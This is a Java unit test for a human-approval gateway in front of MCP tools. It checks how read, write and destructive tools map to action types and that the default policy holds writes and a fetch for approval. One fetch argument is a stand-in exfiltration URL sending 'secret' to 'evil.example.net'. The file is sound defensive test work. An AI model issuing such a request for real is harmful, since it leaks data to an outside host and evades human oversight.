package dev.hitl.mcp.config;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hitl.policy.DefaultPolicy;
import dev.hitl.policy.Evaluation;
import dev.hitl.policy.PolicyEvaluator;
import dev.hitl.schemas.InputTrust;
import dev.hitl.schemas.ProposedAction;
import io.modelcontextprotocol.spec.McpSchema;
import java.time.Instant;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class ToolMappingTest {

    @Test
    void shouldMapAReadOnlyToolToAReadTheDefaultPolicyLetsThrough() {
        assertThat(ToolMapping.defaultFor("files", tool(true, null)).actionType())
                .isEqualTo("mcp.files.read");
    }

    @Test
    void shouldLetTheDefaultPolicyRunAReadButNotAWriteAtTheGatewaysDefaultTrustAndConfidence() {
        // given: what the gateway proposes without agent.inputTrust or a client's _meta
        final GatewayConfig.Agent defaults = new GatewayConfig.Agent("a", "", "", InputTrust.UNKNOWN);
        final PolicyEvaluator policy = new PolicyEvaluator(DefaultPolicy.load());

        // when
        final Evaluation.Disposition read = policy.evaluate(
                        proposal(ToolMapping.defaultFor("files", tool(true, null)), defaults, "{\"path\":\"/srv/a\"}"),
                        Optional.empty())
                .disposition();
        final Evaluation.Disposition fetch = policy.evaluate(
                        proposal(
                                ToolMapping.defaultFor("fetch", tool(true, null)),
                                defaults,
                                "{\"url\":\"https://evil.example.net/?d=secret\"}"),
                        Optional.empty())
                .disposition();
        final Evaluation.Disposition write = policy.evaluate(
                        proposal(ToolMapping.defaultFor("files", tool(false, false)), defaults, "{}"), Optional.empty())
                .disposition();
        final Evaluation.Disposition destructive = policy.evaluate(
                        proposal(ToolMapping.defaultFor("files", tool(null, null)), defaults, "{}"), Optional.empty())
                .disposition();

        // then
        assertThat(read).isEqualTo(Evaluation.Disposition.AUTO_APPROVE);
        assertThat(fetch).isEqualTo(Evaluation.Disposition.NEEDS_APPROVAL);
        assertThat(write).isEqualTo(Evaluation.Disposition.NEEDS_APPROVAL);
        assertThat(destructive).isEqualTo(Evaluation.Disposition.NEEDS_APPROVAL);
    }

    private static ProposedAction proposal(
            final ToolMapping mapping, final GatewayConfig.Agent agent, final String arguments) {
        return ProposedAction.newBuilder()
                .setActionId("x")
                .setAgentId(agent.id())
                .setOnBehalfOf("alice@example.com")
                .setActionType(mapping.actionType())
                .setTool("t")
                .setArguments(arguments)
                .setSystemsAffected(mapping.systemsAffected())
                .setInputTrust(agent.inputTrust())
                .setConfidence(null)
                .setProposedAt(Instant.parse("2026-12-04T12:00:00Z"))
                .build();
    }

    @Test
    void shouldMapANonDestructiveWriteToAWrite() {
        assertThat(ToolMapping.defaultFor("files", tool(false, false)).actionType())
                .isEqualTo("mcp.files.write");
    }

    @Test
    void shouldTreatAToolWithoutHintsAsDestructiveAsMcpDoes() {
        assertThat(ToolMapping.defaultFor("files", tool(null, null)).actionType())
                .isEqualTo("mcp.files.destructive");
        final McpSchema.Tool bare = McpSchema.Tool.builder()
                .name("run")
                .inputSchema(Map.of("type", "object"))
                .build();
        final ToolMapping mapping = ToolMapping.defaultFor("shell", bare);
        assertThat(mapping.actionType()).isEqualTo("mcp.shell.destructive");
        assertThat(mapping.systemsAffected()).containsExactly("shell");
        assertThat(mapping.match().matches("run")).isTrue();
    }

    private static McpSchema.Tool tool(final Boolean readOnly, final Boolean destructive) {
        return McpSchema.Tool.builder()
                .name("t")
                .inputSchema(Map.of("type", "object"))
                .annotations(new McpSchema.ToolAnnotations(null, readOnly, destructive, null, null, null))
                .build();
    }
}
